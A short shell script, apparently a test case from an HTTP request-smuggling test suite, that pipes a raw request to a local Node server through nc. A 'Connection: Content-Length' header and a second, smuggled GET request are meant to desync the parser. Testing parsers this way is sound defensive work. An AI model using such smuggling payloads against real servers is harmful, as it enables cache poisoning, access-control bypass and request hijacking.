#!/bin/sh
# desync/connection-names-framing-field/smuggled-request via header.insert-field against node
printf 'GET / HTTP/1.1\r\nConnection:Content-Length\r\nHost:\r\n\r\nGET /\n\r\n' | nc 127.0.0.1 ${PORT:-58937}
